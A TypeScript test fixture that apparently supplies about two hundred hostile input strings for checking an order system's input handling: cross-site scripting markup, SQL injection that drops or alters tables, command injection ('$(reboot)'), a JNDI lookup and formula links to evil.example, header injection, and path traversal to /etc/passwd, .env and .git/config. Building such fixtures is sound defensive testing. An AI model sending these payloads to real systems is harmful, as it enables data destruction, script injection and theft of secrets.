/**
 * Two hundred texts that attack whoever takes them for more than text: markup, SQL, templates,
 * headers, paths. Each is short enough for a field of an order.
 */

const SCRIPTS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<form action=//evil.example><input name=q>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><b>x</b></template>',
  '<div hx-get="/api/faults/crash" hx-trigger="load">',
  '<div hx-on:click="alert(1)">',
  '<hx-partial hx-target="body">x</hx-partial>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '`><script>alert(1)</script>',
  '"/><img src=x onerror=alert(1)>',
  '"autofocus onfocus="alert(1)',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '</svg><script>alert(1)</script>',
  '<style>*{display:none}</style>',
  '<table><tr><td>x',
  'a\u2028<script>alert(1)</script>\u2029b',
] as const;

const QUERIES = [
  "'; DROP TABLE sagas; --",
  "' OR '1'='1",
  "' OR 1=1 --",
  '" OR ""="',
  "') OR ('a'='a",
  "'; DELETE FROM journal; --",
  "'; UPDATE sagas SET status='completed'; --",
  "' UNION SELECT state FROM sagas --",
  "' UNION SELECT sql FROM sqlite_schema --",
  "'; ATTACH DATABASE 'x.db' AS x; --",
  "'; PRAGMA writable_schema=ON; --",
  "' AND randomblob(1000000000) --",
  "' || (SELECT load_extension('x')) || '",
  '%',
  '_',
  '%%%%%%%%%%%%%%%%',
  '* FROM sagas',
  "\\'; DROP TABLE orders; --",
  '1; VACUUM',
  "x' COLLATE NOCASE --",
] as const;

const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}',
  '${jndi:ldap://evil.example/a}',
  '$(reboot)',
  '`reboot`',
  '; reboot',
  '| reboot',
  '=HYPERLINK("//evil.example")',
  '@SUM(1+1)*cmd|x',
  '__proto__',
  'constructor.prototype',
  '[object Object]',
] as const;

const HEADERS = [
  'x\r\nSet-Cookie: a=b',
  'x\nLocation: //evil.example',
  'x\r\n\r\n<script>alert(1)</script>',
  '%0d%0aSet-Cookie:%20a=b',
  '\u560a\u560dSet-Cookie: a=b',
  'x\u0000y',
  '\u001b[2J\u001b[31m',
  '\u202egnp.exe',
] as const;

const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/package.json',
  '....//....//package.json',
  '..;/..;/package.json',
  '/etc/passwd',
  'file:///etc/passwd',
  '//evil.example/x',
  'https://evil.example/x',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '.env',
  '.git/config',
  'backstep.db',
  'assets/../../package.json',
] as const;

const BASE = [...SCRIPTS, ...QUERIES, ...TEMPLATES, ...HEADERS, ...PATHS];

/** The same again behind an innocent word, and again percent-encoded, up to two hundred. */
export const ATTACK_TEXTS: readonly string[] = [
  ...new Set([
    ...BASE,
    ...BASE.map((text) => `order ${text}`),
    ...BASE.map((text) => encodeURIComponent(text)),
  ]),
]
  .filter((text) => text.length <= 100)
  .slice(0, 200);

/** What only a path may try. */
export const ATTACK_PATHS: readonly string[] = PATHS;
